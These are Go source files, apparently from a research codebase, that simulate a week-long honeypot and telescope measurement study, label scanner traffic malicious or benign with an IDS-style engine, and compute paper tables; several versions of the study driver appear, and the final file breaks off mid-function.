	// Results are byte-identical for every worker count.
	Workers int
	// WindowSec truncates the study to the first WindowSec study-
	// seconds: probes timestamped at or past the boundary are dropped
	// before they reach any collector. 0 (the default) keeps the full
	// week. A truncated Run is the batch reference for the streaming
	// engine's epoch-prefix snapshots (see EpochSet).
	WindowSec int32
}

// DefaultConfig returns the standard study of a given year at default
// scale.
func DefaultConfig(seed int64, year int) Config {
	return Config{
		Seed:           seed,
		Year:           year,
		Deploy:         cloud.DefaultConfig(seed, year),
		Actors:         scanners.Config{Seed: seed, Year: year, Scale: 1, Scenario: scanners.BaselineScenario},
		TelescopeWatch: []uint16{22, 80, 445, 7574, 17128},
	}
}

// Scenario returns the canonical scenario id of the study config (the
// baseline when unset).
func (c Config) Scenario() string {
	return scanners.CanonicalScenario(c.Actors.Scenario)
}

// Study is the outcome of one simulated collection week: everything
// the analysis pipeline consumes.
//
// Records are stored columnar (netsim.RecordBlock) with every derived
// per-record fact — the §3.2 malicious verdict, interned payload ids,
// study seconds — materialized by the pipeline itself, so the derived
// index is complete the moment Run returns; there is no post-hoc
// record scan. Row-oriented access goes through the compatibility
// view (NumRecords, RecordAt, VantageRecords, VantageEach), which
// reconstructs netsim.Record values on the fly; reconstructed records
// alias only interner-owned payload bytes and the study's credential
// arena, never a scanner dictionary buffer.
type Study struct {
	Cfg    Config
	U      *netsim.Universe
	Tel    *telescope.Collector
	GN     *greynoise.Service
	Censys *searchengine.Engine
	Shodan *searchengine.Engine
	Actors []*scanners.Actor
	IDS    *ids.Engine

	// The columnar record store plus its derived columns: mal is the
	// per-record §3.2 verdict, byVantage the per-vantage record lists
	// (indexed by vantage id — Universe target position), malByPay the
	// frozen per-payload verdict memo, and payKey/payProto the
	// per-payload normalized key and LZR fingerprint (indexed by
	// netsim.PayloadID). All are read-only after Run.
	blk       netsim.RecordBlock
	mal       []bool
	byVantage [][]int32
	malByPay  []int8 // -1 unknown, 0 benign, 1 malicious
	payKey    []string
	payProto  []fingerprint.Protocol

	// The view and telescope-series caches, built lazily on first read.
	views       viewCache
	seriesMu    sync.Mutex
	seriesCache map[uint16]*seriesEntry

	// The shared Table 4/5 geography pair list (experiments_geo.go),
	// derived once from the immutable universe.
	geoPairsOnce sync.Once
	geoPairs     []geoPair

	// The §3.3 comparison-engine caches: per-(view, characteristic)
	// ranked top-K summaries and per-(family, slice, characteristic, K)
	// finished comparison families (family.go).
	summMu    sync.Mutex
	summCache map[summKey]*summEntry
	famMu     sync.Mutex
	famCache  map[famKey]*famEntry
}

// Run executes a full study: build the deployment, crawl the search
// engines, generate the actor population's traffic, route it through
// the collectors, and feed the GreyNoise classifier. The population is
// partitioned across cfg.Workers pipeline workers (GOMAXPROCS by
// default), each with a private shard of collectors; shards merge in
// canonical actor order, so the study is byte-identical to a serial
// run for any worker count.
func Run(cfg Config) (*Study, error) {
	if cfg.Year == 0 {
		cfg.Year = 2021
	}
	// Canonicalize and validate the scenario before building anything:
	// a typoed scenario id fails with the registered ids enumerated,
	// not halfway into a deployment build.
	cfg.Actors.Scenario = scanners.CanonicalScenario(cfg.Actors.Scenario)
	actors, err := scanners.PopulationFor(cfg.Actors)
	if err != nil {
		return nil, fmt.Errorf("core: actor population: %w", err)
	}
	deployment, err := cloud.Build(cfg.Deploy)
	if err != nil {
		return nil, fmt.Errorf("core: building deployment: %w", err)
	}
	u, err := deployment.Universe(cfg.Seed, cfg.Year)
	if err != nil {
		return nil, fmt.Errorf("core: building universe: %w", err)
	}

	s := &Study{
		Cfg:    cfg,
		U:      u,
		Tel:    telescope.New(cfg.TelescopeWatch...),
		GN:     greynoise.NewService(),
		Censys: searchengine.New("censys"),
		Shodan: searchengine.New("shodan"),
		IDS:    ids.DefaultEngine(),
	}

	// Search engines crawl before the study window opens; attackers
	// mine the resulting index during the week (§4.3).
	crawlTime := netsim.StudyStart.Add(-24 * time.Hour)
	s.Censys.Crawl(u, crawlTime)
	s.Shodan.Crawl(u, crawlTime)

	s.Actors = actors
	ctx := &scanners.Context{U: u, Censys: s.Censys, Shodan: s.Shodan, Seed: cfg.Seed, Year: cfg.Year}

	for _, actor := range s.Actors {
		if actor.Benign {
			s.GN.VetASN(actor.AS.ASN)
		}
	}
	sp := obs.StartStage("batch_generation")
	s.runActors(ctx, cfg.Workers)
	sp.End()
	mRecordsGenerated.Add(int64(s.blk.Len()))
	return s, nil
}

// maliciousRecord is the single copy of the §3.2 malicious-traffic
// definition: any login attempt (bypassing authentication) is
// malicious; payloadless records are benign; otherwise the
// Suricata-style engine judges the payload. Payload-keyed memoization
// is the caller's concern (pipeline shards keep per-payload verdict
// columns; after Run the merged column freezes into the study).
func maliciousRecord(e *ids.Engine, rec netsim.Record) bool {
	if len(rec.Creds) > 0 {
		return true
	}
	if len(rec.Payload) == 0 {
		return false
	}
	return e.Malicious(rec.Transport.String(), rec.Port, rec.Payload)
}

// RecordMalicious applies the §3.2 definition to one record. Verdicts
// for every payload the study collected live in the frozen per-payload
// verdict column, so the lookup is a lock-free array read; unseen
// payloads are judged directly without memoization. Safe for
// concurrent use, so view building can fan out across vantage points.
func (s *Study) RecordMalicious(rec netsim.Record) bool {
	if len(rec.Creds) > 0 || (rec.Pay == 0 && len(rec.Payload) == 0) {
		return maliciousRecord(s.IDS, rec)
	}
	pay := rec.Pay
	if pay == 0 {
		pay, _ = netsim.LookupPayload(rec.Payload)
	}
	if pay > 0 && int(pay) < len(s.malByPay) && s.malByPay[pay] >= 0 {
		return s.malByPay[pay] == 1
	}
	return maliciousRecord(s.IDS, rec)
}

// NumRecords returns the number of honeypot records collected.
func (s *Study) NumRecords() int { return s.blk.Len() }

// RecordAt reconstructs record i as a row-oriented netsim.Record —
// the compatibility view over the columnar store. The result is
// self-contained and safe to retain; its Payload and Creds alias
// immutable study-owned storage and must not be mutated.
func (s *Study) RecordAt(i int) netsim.Record {
	return s.blk.Record(i, s.U.Targets()[s.blk.Vantage[i]].ID)
}

// EachRecord calls fn for every record in collection order, with the
// record index alongside the reconstructed view.
func (s *Study) EachRecord(fn func(i int, rec netsim.Record)) {
	for i := 0; i < s.blk.Len(); i++ {
		fn(i, s.RecordAt(i))
	}
}

// vantageIdxs returns the record indexes of one vantage point, in
// arrival order.
func (s *Study) vantageIdxs(id string) []int32 {
	vi, ok := s.U.VantageIndex(id)
	if !ok {
		return nil
	}
	return s.byVantage[vi]
}

// VantageRecords returns the records of one vantage point, in arrival
// order. The slice is freshly allocated; for allocation-free
// traversal use VantageEach.
func (s *Study) VantageRecords(id string) []netsim.Record {
	idxs := s.vantageIdxs(id)
	out := make([]netsim.Record, len(idxs))
	for i, ri := range idxs {
		out[i] = s.blk.Record(int(ri), id)
	}
	return out
}

// VantageEach calls fn for every record of one vantage point in
// arrival order without materializing the record list — the zero-copy
// counterpart of VantageRecords (records are reconstructed from the
// columns on the caller's stack).
func (s *Study) VantageEach(id string, fn func(rec netsim.Record)) {
	for _, ri := range s.vantageIdxs(id) {
		fn(s.blk.Record(int(ri), id))
	}
}

// RegionRecords returns the records of every vantage point in a
// region, keyed by vantage ID. The per-vantage gathers fan out across
// cores.
func (s *Study) RegionRecords(region string) map[string][]netsim.Record {
	targets := s.U.Region(region)
	gathered := make([][]netsim.Record, len(targets))
	parallelEach(len(targets), func(i int) {
		gathered[i] = s.VantageRecords(targets[i].ID)
	})
	out := make(map[string][]netsim.Record, len(targets))
	for i, t := range targets {
		out[t.ID] = gathered[i]
	}
	return out
}
