// Package core is the paper's primary contribution in code: the
// measurement study driver (deploy vantage points, generate attacker
// traffic, collect records) and the §3.3 statistical comparison
// methodology, plus one experiment driver per table and figure of the
// evaluation (experiments*.go).
package core

import (
	"fmt"
	"sync"
	"time"

	"cloudwatch/internal/cloud"
	"cloudwatch/internal/greynoise"
	"cloudwatch/internal/ids"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/searchengine"
	"cloudwatch/internal/telescope"
)

// Config assembles a full study: deployment, actor population, and
// telescope watch ports.
type Config struct {
	Seed   int64
	Year   int
	Deploy cloud.Config
	Actors scanners.Config
	// TelescopeWatch lists ports with per-destination telescope
	// tracking (Figure 1). Defaults to 22, 80, 445, 7574, 17128.
	TelescopeWatch []uint16
	// Workers is the number of pipeline workers the actor population
	// is sharded across. 0 (the default) means runtime.GOMAXPROCS(0).
	// Results are byte-identical for every worker count.
	Workers int
}

// DefaultConfig returns the standard study of a given year at default
// scale.
func DefaultConfig(seed int64, year int) Config {
	return Config{
		Seed:           seed,
		Year:           year,
		Deploy:         cloud.DefaultConfig(seed, year),
		Actors:         scanners.Config{Seed: seed, Year: year, Scale: 1},
		TelescopeWatch: []uint16{22, 80, 445, 7574, 17128},
	}
}

// Study is the outcome of one simulated collection week: everything
// the analysis pipeline consumes.
type Study struct {
	Cfg     Config
	U       *netsim.Universe
	Records []netsim.Record // honeypot observations
	Tel     *telescope.Collector
	GN      *greynoise.Service
	Censys  *searchengine.Engine
	Shodan  *searchengine.Engine
	Actors  []*scanners.Actor
	IDS     *ids.Engine

	byVantage map[string][]int // record indexes per vantage ID

	// maliciousMem is the payload-keyed IDS verdict memo accumulated by
	// the pipeline shards during Run. After Run it is frozen (read-only)
	// and adopted by the derived index, so no lock guards it.
	maliciousMem map[string]bool

	// The derived-record index (columnar per-record facts) and the view
	// and telescope-series caches, all built lazily on first read.
	indexOnce   sync.Once
	idx         *derivedIndex
	views       viewCache
	seriesMu    sync.Mutex
	seriesCache map[uint16]*seriesEntry

	// The §3.3 comparison-engine caches: per-(view, characteristic)
	// ranked top-K summaries and per-(family, slice, characteristic, K)
	// finished comparison families (family.go).
	summMu    sync.Mutex
	summCache map[summKey]*summEntry
	famMu     sync.Mutex
	famCache  map[famKey]*famEntry
}

// Run executes a full study: build the deployment, crawl the search
// engines, generate the actor population's traffic, route it through
// the collectors, and feed the GreyNoise classifier. The population is
// partitioned across cfg.Workers pipeline workers (GOMAXPROCS by
// default), each with a private shard of collectors; shards merge in
// canonical actor order, so the study is byte-identical to a serial
// run for any worker count.
func Run(cfg Config) (*Study, error) {
	if cfg.Year == 0 {
		cfg.Year = 2021
	}
	deployment, err := cloud.Build(cfg.Deploy)
	if err != nil {
		return nil, fmt.Errorf("core: building deployment: %w", err)
	}
	u, err := deployment.Universe(cfg.Seed, cfg.Year)
	if err != nil {
		return nil, fmt.Errorf("core: building universe: %w", err)
	}

	s := &Study{
		Cfg:          cfg,
		U:            u,
		Tel:          telescope.New(cfg.TelescopeWatch...),
		GN:           greynoise.NewService(),
		Censys:       searchengine.New("censys"),
		Shodan:       searchengine.New("shodan"),
		IDS:          ids.DefaultEngine(),
		byVantage:    map[string][]int{},
		maliciousMem: map[string]bool{},
	}

	// Search engines crawl before the study window opens; attackers
	// mine the resulting index during the week (§4.3).
	crawlTime := netsim.StudyStart.Add(-24 * time.Hour)
	s.Censys.Crawl(u, crawlTime)
	s.Shodan.Crawl(u, crawlTime)

	s.Actors = scanners.Population(cfg.Actors)
	ctx := &scanners.Context{U: u, Censys: s.Censys, Shodan: s.Shodan, Seed: cfg.Seed, Year: cfg.Year}

	for _, actor := range s.Actors {
		if actor.Benign {
			s.GN.VetASN(actor.AS.ASN)
		}
	}
	s.runActors(ctx, cfg.Workers)
	return s, nil
}

// maliciousRecord is the single copy of the §3.2 malicious-traffic
// definition: any login attempt (bypassing authentication) is
// malicious; payloadless records are benign; otherwise the
// Suricata-style engine judges the payload. Payload-keyed memoization
// is the caller's concern (pipeline shards keep private memos; after
// Run the merged memo freezes into the derived index).
func maliciousRecord(e *ids.Engine, rec netsim.Record) bool {
	if len(rec.Creds) > 0 {
		return true
	}
	if len(rec.Payload) == 0 {
		return false
	}
	return e.Malicious(rec.Transport.String(), rec.Port, rec.Payload)
}

// RecordMalicious applies the §3.2 definition to one record. Verdicts
// for every payload the study collected live in the derived index's
// frozen payload memo, so the lookup is lock-free; unseen payloads are
// judged directly without memoization. Safe for concurrent use, so
// view building can fan out across vantage points.
func (s *Study) RecordMalicious(rec netsim.Record) bool {
	if len(rec.Creds) > 0 || len(rec.Payload) == 0 {
		return maliciousRecord(s.IDS, rec)
	}
	if v, ok := s.index().malByPayload[string(rec.Payload)]; ok {
		return v
	}
	return maliciousRecord(s.IDS, rec)
}

// VantageRecords returns the records of one vantage point, in arrival
// order. The slice is freshly allocated; for allocation-free
// traversal use VantageEach.
func (s *Study) VantageRecords(id string) []netsim.Record {
	idxs := s.byVantage[id]
	out := make([]netsim.Record, len(idxs))
	for i, idx := range idxs {
		out[i] = s.Records[idx]
	}
	return out
}

// VantageEach calls fn for every record of one vantage point in
// arrival order without copying the record list — the zero-copy
// counterpart of VantageRecords.
func (s *Study) VantageEach(id string, fn func(rec netsim.Record)) {
	for _, idx := range s.byVantage[id] {
		fn(s.Records[idx])
	}
}

// RegionRecords returns the records of every vantage point in a
// region, keyed by vantage ID. The per-vantage gathers fan out across
// cores.
func (s *Study) RegionRecords(region string) map[string][]netsim.Record {
	targets := s.U.Region(region)
	gathered := make([][]netsim.Record, len(targets))
	parallelEach(len(targets), func(i int) {
		gathered[i] = s.VantageRecords(targets[i].ID)
	})
	out := make(map[string][]netsim.Record, len(targets))
	for i, t := range targets {
		out[t.ID] = gathered[i]
	}
	return out
}
