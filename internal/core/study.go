// Package core is the paper's primary contribution in code: the
// measurement study driver (deploy vantage points, generate attacker
// traffic, collect records) and the §3.3 statistical comparison
// methodology, plus one experiment driver per table and figure of the
// evaluation (experiments*.go).
package core

import (
	"fmt"
	"time"

	"cloudwatch/internal/cloud"
	"cloudwatch/internal/greynoise"
	"cloudwatch/internal/ids"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/scanners"
	"cloudwatch/internal/searchengine"
	"cloudwatch/internal/telescope"
)

// Config assembles a full study: deployment, actor population, and
// telescope watch ports.
type Config struct {
	Seed   int64
	Year   int
	Deploy cloud.Config
	Actors scanners.Config
	// TelescopeWatch lists ports with per-destination telescope
	// tracking (Figure 1). Defaults to 22, 80, 445, 7574, 17128.
	TelescopeWatch []uint16
}

// DefaultConfig returns the standard study of a given year at default
// scale.
func DefaultConfig(seed int64, year int) Config {
	return Config{
		Seed:           seed,
		Year:           year,
		Deploy:         cloud.DefaultConfig(seed, year),
		Actors:         scanners.Config{Seed: seed, Year: year, Scale: 1},
		TelescopeWatch: []uint16{22, 80, 445, 7574, 17128},
	}
}

// Study is the outcome of one simulated collection week: everything
// the analysis pipeline consumes.
type Study struct {
	Cfg     Config
	U       *netsim.Universe
	Records []netsim.Record // honeypot observations
	Tel     *telescope.Collector
	GN      *greynoise.Service
	Censys  *searchengine.Engine
	Shodan  *searchengine.Engine
	Actors  []*scanners.Actor
	IDS     *ids.Engine

	byVantage    map[string][]int // record indexes per vantage ID
	maliciousMem map[string]bool  // payload-keyed IDS verdict cache
}

// Run executes a full study: build the deployment, crawl the search
// engines, generate the actor population's traffic, route it through
// the collectors, and feed the GreyNoise classifier.
func Run(cfg Config) (*Study, error) {
	if cfg.Year == 0 {
		cfg.Year = 2021
	}
	deployment, err := cloud.Build(cfg.Deploy)
	if err != nil {
		return nil, fmt.Errorf("core: building deployment: %w", err)
	}
	u, err := deployment.Universe(cfg.Seed, cfg.Year)
	if err != nil {
		return nil, fmt.Errorf("core: building universe: %w", err)
	}

	s := &Study{
		Cfg:          cfg,
		U:            u,
		Tel:          telescope.New(cfg.TelescopeWatch...),
		GN:           greynoise.NewService(),
		Censys:       searchengine.New("censys"),
		Shodan:       searchengine.New("shodan"),
		IDS:          ids.DefaultEngine(),
		byVantage:    map[string][]int{},
		maliciousMem: map[string]bool{},
	}

	// Search engines crawl before the study window opens; attackers
	// mine the resulting index during the week (§4.3).
	crawlTime := netsim.StudyStart.Add(-24 * time.Hour)
	s.Censys.Crawl(u, crawlTime)
	s.Shodan.Crawl(u, crawlTime)

	s.Actors = scanners.Population(cfg.Actors)
	ctx := &scanners.Context{U: u, Censys: s.Censys, Shodan: s.Shodan, Seed: cfg.Seed, Year: cfg.Year}

	for _, actor := range s.Actors {
		if actor.Benign {
			s.GN.VetASN(actor.AS.ASN)
		}
	}
	for _, actor := range s.Actors {
		actor.Run(ctx, s.dispatch)
	}
	return s, nil
}

// dispatch routes one probe to its collector.
func (s *Study) dispatch(p netsim.Probe) {
	if s.U.InTelescope(p.Dst) {
		s.Tel.Observe(p)
		s.GN.Observe(p.Src)
		return
	}
	t, ok := s.U.ByIP(p.Dst)
	if !ok {
		return // probe to unmonitored space: invisible to the study
	}
	rec, ok := honeypotObserve(t, p)
	if !ok {
		return
	}
	s.GN.Observe(p.Src)
	if s.RecordMalicious(rec) {
		s.GN.ObserveExploit(p.Src)
	}
	s.byVantage[t.ID] = append(s.byVantage[t.ID], len(s.Records))
	s.Records = append(s.Records, rec)
}

// RecordMalicious applies the §3.2 malicious-traffic definition to one
// record: any login attempt (bypassing authentication) is malicious;
// otherwise the payload is judged by the Suricata-style engine.
// Verdicts are memoized per distinct payload.
func (s *Study) RecordMalicious(rec netsim.Record) bool {
	if len(rec.Creds) > 0 {
		return true
	}
	if len(rec.Payload) == 0 {
		return false
	}
	key := string(rec.Payload)
	if v, ok := s.maliciousMem[key]; ok {
		return v
	}
	v := s.IDS.Malicious(rec.Transport.String(), rec.Port, rec.Payload)
	s.maliciousMem[key] = v
	return v
}

// VantageRecords returns the records of one vantage point, in arrival
// order.
func (s *Study) VantageRecords(id string) []netsim.Record {
	idxs := s.byVantage[id]
	out := make([]netsim.Record, len(idxs))
	for i, idx := range idxs {
		out[i] = s.Records[idx]
	}
	return out
}

// RegionRecords returns the records of every vantage point in a
// region, keyed by vantage ID.
func (s *Study) RegionRecords(region string) map[string][]netsim.Record {
	out := map[string][]netsim.Record{}
	for _, t := range s.U.Region(region) {
		out[t.ID] = s.VantageRecords(t.ID)
	}
	return out
}
