package core

import (
	"fmt"
	"strings"

	"cloudwatch/internal/fingerprint"
	"cloudwatch/internal/greynoise"
	"cloudwatch/internal/netsim"
	"cloudwatch/internal/wire"
)

// Table11Row is one (port, expected/unexpected) breakdown of Table 11.
type Table11Row struct {
	Port          uint16
	Expected      bool    // true = the IANA protocol (HTTP), false = ∼HTTP
	Share         float64 // fraction of classifiable scanners
	BenignFrac    float64 // GreyNoise-benign share of those scanners
	MaliciousFrac float64 // GreyNoise-malicious share
	Scanners      int
	HasLabels     bool // false on 2022 data (no GreyNoise API labels, Table 17)
}

// Table11Result reproduces Table 11 (and Table 17 on the 2022 config):
// scanners target unexpected protocols on HTTP-assigned ports.
type Table11Result struct {
	Year      int
	Rows      []Table11Row
	ByProto   map[string]int // unexpected scanners per identified protocol (port 80+8080)
	TopBenign string         // leading benign AS among unexpected-protocol scanners
}

// Table11 fingerprints the first payloads received on ports 80/8080 by
// the three /26 Honeytrap networks (Stanford, AWS, Google — §6 uses
// exactly these) and classifies each scanner as targeting HTTP or an
// unexpected protocol, then labels actors via GreyNoise.
func (s *Study) Table11() Table11Result {
	res := Table11Result{Year: s.Cfg.Year, ByProto: map[string]int{}}
	networks := map[string]bool{"stanford:us-west": true, "aws:ht-us-west": true, "google:ht-us-west": true}
	hasLabels := s.Cfg.Year != 2022

	type srcInfo struct {
		asn      int
		protos   map[fingerprint.Protocol]int
		anyKnown bool
	}
	benignByAS := map[string]int{}

	for _, port := range []uint16{80, 8080} {
		srcs := map[wire.Addr]*srcInfo{}
		for vi, t := range s.U.Targets() {
			if !networks[t.Region] || t.Collector != netsim.CollectHoneytrap {
				continue
			}
			for _, ri := range s.byVantage[vi] {
				if s.blk.Port[ri] != port || s.blk.Pay[ri] == 0 {
					continue
				}
				src := s.blk.Src[ri]
				info, ok := srcs[src]
				if !ok {
					info = &srcInfo{asn: int(s.blk.ASN[ri]), protos: map[fingerprint.Protocol]int{}}
					srcs[src] = info
				}
				if proto := s.recProto(int(ri)); proto != fingerprint.Unknown {
					info.protos[proto]++
					info.anyKnown = true
				}
			}
		}

		var expected, unexpected []wire.Addr
		for ip, info := range srcs {
			if !info.anyKnown {
				continue
			}
			// A scanner counts as ∼HTTP when its identified payloads
			// on the port are predominantly non-HTTP.
			http := info.protos[fingerprint.HTTP]
			other := 0
			var domProto fingerprint.Protocol
			domN := 0
			for proto, n := range info.protos {
				if proto != fingerprint.HTTP {
					other += n
					if n > domN {
						domN, domProto = n, proto
					}
				}
			}
			if other > http {
				unexpected = append(unexpected, ip)
				if port == 80 {
					res.ByProto[domProto.String()]++
				}
			} else {
				expected = append(expected, ip)
			}
		}

		classify := func(ips []wire.Addr, countFinders bool) (benign, malicious float64) {
			if !hasLabels || len(ips) == 0 {
				return 0, 0
			}
			b, m := 0, 0
			for _, ip := range ips {
				info := srcs[ip]
				switch s.GN.Classify(ip, info.asn) {
				case greynoise.Benign:
					b++
					// "Finders of unexpected services" are tallied on
					// the ∼HTTP side only.
					if countFinders {
						if as, ok := netsim.LookupAS(info.asn); ok {
							benignByAS[as.Key()]++
						}
					}
				case greynoise.Malicious:
					m++
				}
			}
			return float64(b) / float64(len(ips)), float64(m) / float64(len(ips))
		}

		total := len(expected) + len(unexpected)
		if total == 0 {
			continue
		}
		eb, em := classify(expected, false)
		ub, um := classify(unexpected, true)
		res.Rows = append(res.Rows,
			Table11Row{Port: port, Expected: true, Share: float64(len(expected)) / float64(total),
				BenignFrac: eb, MaliciousFrac: em, Scanners: len(expected), HasLabels: hasLabels},
			Table11Row{Port: port, Expected: false, Share: float64(len(unexpected)) / float64(total),
				BenignFrac: ub, MaliciousFrac: um, Scanners: len(unexpected), HasLabels: hasLabels},
		)
	}

	best, bestN := "", 0
	for as, n := range benignByAS {
		if n > bestN || (n == bestN && as < best) {
			best, bestN = as, n
		}
	}
	res.TopBenign = best
	return res
}

// Render formats Table 11 / Table 17.
func (r Table11Result) Render() string {
	name := "Table 11"
	if r.Year == 2022 {
		name = "Table 17 (2022, no GreyNoise labels)"
	}
	t := newTable(name+": scanner-targeted protocols on HTTP-assigned ports",
		"Protocol/Port", "Breakdown", "% Benign", "% Malicious", "Scanners")
	for _, row := range r.Rows {
		label := fmt.Sprintf("HTTP/%d", row.Port)
		if !row.Expected {
			label = fmt.Sprintf("~HTTP/%d", row.Port)
		}
		benign, malicious := "-", "-"
		if row.HasLabels {
			benign, malicious = fmtPct(row.BenignFrac), fmtPct(row.MaliciousFrac)
		}
		t.add(label, fmtPct(row.Share), benign, malicious, fmt.Sprint(row.Scanners))
	}
	out := t.String()
	if len(r.ByProto) > 0 {
		var parts []string
		for _, proto := range []string{"tls", "telnet", "mysql", "rtsp", "smb", "redis", "ssh"} {
			if n := r.ByProto[proto]; n > 0 {
				parts = append(parts, fmt.Sprintf("%s:%d", proto, n))
			}
		}
		out += "Unexpected protocols on port 80: " + strings.Join(parts, " ") + "\n"
	}
	if r.TopBenign != "" {
		out += "Leading benign finder of unexpected services: " + r.TopBenign + "\n"
	}
	return out
}
