package core

import "cloudwatch/internal/obs"

// Package-level observability handles, resolved once. Counting happens
// at run/epoch granularity — one atomic add per generator pass or
// repair, never per record — so the generation hot path pays nothing.
var (
	// mRecordsGenerated counts honeypot records produced by every
	// generator pass of this process (batch Run and GenerateEpochs).
	mRecordsGenerated = obs.Default().Counter("core_records_generated_total",
		"Honeypot records produced by generation (batch and epoch-partitioned).")
	// mVerdictRepairs counts Advance calls that had to repair
	// already-assembled verdict state (repairFlips invocations).
	mVerdictRepairs = obs.Default().Counter("core_verdict_repairs_total",
		"Incremental-assembly verdict repairs (anchor moves that flipped a §3.2 verdict).")
)
