package core

import (
	"fmt"

	"cloudwatch/internal/fingerprint"
	"cloudwatch/internal/netsim"
)

// derivedIndex is the columnar per-record index of the analysis
// pipeline: every fact the experiments re-derive from raw records —
// the §3.2 malicious verdict, the AS table key, the normalized payload
// key, the LZR protocol fingerprint, and the study hour — computed
// exactly once per study and stored as parallel arrays over
// Study.Records. Experiments read the columns instead of re-running
// IDS matching, payload normalization, and protocol identification per
// table, which removes those costs (and the shared verdict-memo lock)
// from the read path entirely.
//
// All columns are pure functions of the immutable record list, so the
// index is built lazily behind a sync.Once and shared by every
// concurrent experiment without synchronization.
type derivedIndex struct {
	mal    []bool                 // §3.2 verdict (maliciousRecord)
	asKey  []string               // netsim AS table key ("AS15169 GOOGLE")
	payKey []string               // payloadKey result; "" for payloadless records
	proto  []fingerprint.Protocol // fingerprint.Identify of the payload
	hour   []int32                // netsim.HourOf of the record timestamp

	// malByPayload is the frozen payload→verdict memo the pipeline
	// accumulated during Run. It is never written after the index is
	// built, so reads need no lock.
	malByPayload map[string]bool
}

// indexChunk is the number of records per parallel index-build chunk:
// large enough that per-chunk memo maps amortize, small enough to
// load-balance across cores.
const indexChunk = 4096

// index returns the study's derived-record index, building it on first
// use. Safe for concurrent use.
func (s *Study) index() *derivedIndex {
	s.indexOnce.Do(s.buildIndex)
	return s.idx
}

// buildIndex materializes the columns, fanning record chunks out
// across cores. Chunks keep private memo maps (payload-keyed and
// ASN-keyed), so duplicate payloads cost one derivation per chunk and
// the columns are written racelessly (each record index is owned by
// exactly one chunk).
func (s *Study) buildIndex() {
	n := len(s.Records)
	idx := &derivedIndex{
		mal:          make([]bool, n),
		asKey:        make([]string, n),
		payKey:       make([]string, n),
		proto:        make([]fingerprint.Protocol, n),
		hour:         make([]int32, n),
		malByPayload: s.maliciousMem,
	}
	if idx.malByPayload == nil {
		idx.malByPayload = map[string]bool{}
	}
	chunks := (n + indexChunk - 1) / indexChunk
	parallelEach(chunks, func(c int) {
		lo, hi := c*indexChunk, (c+1)*indexChunk
		if hi > n {
			hi = n
		}
		type payloadFacts struct {
			key   string
			proto fingerprint.Protocol
			mal   bool
		}
		payMemo := map[string]payloadFacts{}
		asMemo := map[int]string{}
		for i := lo; i < hi; i++ {
			rec := &s.Records[i]
			idx.hour[i] = int32(netsim.HourOf(rec.T))
			key, ok := asMemo[rec.ASN]
			if !ok {
				if as, found := netsim.LookupAS(rec.ASN); found {
					key = as.Key()
				} else {
					key = fmt.Sprintf("AS%d", rec.ASN)
				}
				asMemo[rec.ASN] = key
			}
			idx.asKey[i] = key
			if len(rec.Creds) > 0 {
				idx.mal[i] = true
			}
			if len(rec.Payload) == 0 {
				continue // mal stays creds-only, payKey "", proto Unknown
			}
			pf, ok := payMemo[string(rec.Payload)]
			if !ok {
				pf = payloadFacts{
					key:   payloadKey(rec.Payload),
					proto: fingerprint.Identify(rec.Payload),
				}
				if v, known := idx.malByPayload[string(rec.Payload)]; known {
					pf.mal = v
				} else {
					// Payload unseen by the pipeline memo (study built
					// outside Run): derive the verdict here.
					pf.mal = s.IDS.Malicious(rec.Transport.String(), rec.Port, rec.Payload)
				}
				payMemo[string(rec.Payload)] = pf
			}
			idx.payKey[i] = pf.key
			idx.proto[i] = pf.proto
			if len(rec.Creds) == 0 {
				idx.mal[i] = pf.mal
			}
		}
	})
	s.idx = idx
}

// sliceMatchIndexed is ProtocolSlice.matches with the fingerprint read
// from the index column instead of re-identifying the payload.
func (idx *derivedIndex) sliceMatch(slice ProtocolSlice, rec *netsim.Record, ri int) bool {
	if slice == SliceHTTPAll {
		return len(rec.Payload) > 0 && idx.proto[ri] == fingerprint.HTTP
	}
	return slice.matches(*rec)
}

// addToView folds record ri into v using the index columns — the
// columnar counterpart of View.Add, producing byte-identical views.
func (s *Study) addToView(idx *derivedIndex, v *View, ri int) {
	rec := &s.Records[ri]
	if !idx.sliceMatch(v.Slice, rec, ri) {
		return
	}
	v.Total++
	v.AS.Add(idx.asKey[ri], 1)
	for _, c := range rec.Creds {
		v.Usernames.Add(c.Username, 1)
		v.Passwords.Add(c.Password, 1)
	}
	if len(rec.Payload) > 0 {
		v.Payloads.Add(idx.payKey[ri], 1)
	}
	hour := idx.hour[ri]
	v.Hourly[hour]++
	v.Srcs[rec.Src] = struct{}{}
	if idx.mal[ri] {
		v.Malicious++
		v.MalHourly[hour]++
		v.MalSrcs[rec.Src] = struct{}{}
	} else {
		v.Benign++
	}
}
