package core

import (
	"sync"

	"cloudwatch/internal/fingerprint"
	"cloudwatch/internal/netsim"
)

// This file finalizes the study's derived columns. The per-record
// facts (verdict, study seconds, interned payload and vantage ids)
// are produced by shard.dispatch itself; what remains at merge time is
// per-*payload* derivation — the normalized payload key and the LZR
// protocol fingerprint, computed once per interned payload — plus the
// per-vantage record lists. Both are assembled before Run returns;
// nothing rescans the record columns afterwards.

// payFacts is the process-wide per-payload derivation cache: the
// payloadKey and fingerprint.Identify of every interned payload,
// indexed by netsim.PayloadID. Both are pure functions of the payload
// bytes, so studies share the cache; each study snapshots the prefix
// covering its own payloads. Slices only ever grow under the lock, and
// published elements are never rewritten, so snapshot reads need no
// synchronization.
var payFacts struct {
	sync.Mutex
	key   []string
	proto []fingerprint.Protocol
}

// payFactsSnapshot extends the cache to cover every payload interned
// so far (count = netsim.PayloadCount()) and returns stable snapshots.
func payFactsSnapshot(count int) ([]string, []fingerprint.Protocol) {
	payFacts.Lock()
	defer payFacts.Unlock()
	for id := len(payFacts.key); id < count; id++ {
		if id == 0 {
			payFacts.key = append(payFacts.key, "")
			payFacts.proto = append(payFacts.proto, fingerprint.Unknown)
			continue
		}
		b := netsim.PayloadBytes(netsim.PayloadID(id))
		payFacts.key = append(payFacts.key, payloadKey(b))
		payFacts.proto = append(payFacts.proto, fingerprint.Identify(b))
	}
	return payFacts.key[:count], payFacts.proto[:count]
}

// buildDerived completes the study's derived columns at the end of the
// pipeline merge: the per-payload key/fingerprint snapshot and the
// per-vantage record lists (exact-sized, two passes — the columnar
// replacement of the old byVantage string-keyed map).
func (s *Study) buildDerived(payCount int) {
	s.payKey, s.payProto = payFactsSnapshot(payCount)

	counts := make([]int32, len(s.U.Targets()))
	for _, vi := range s.blk.Vantage {
		counts[vi]++
	}
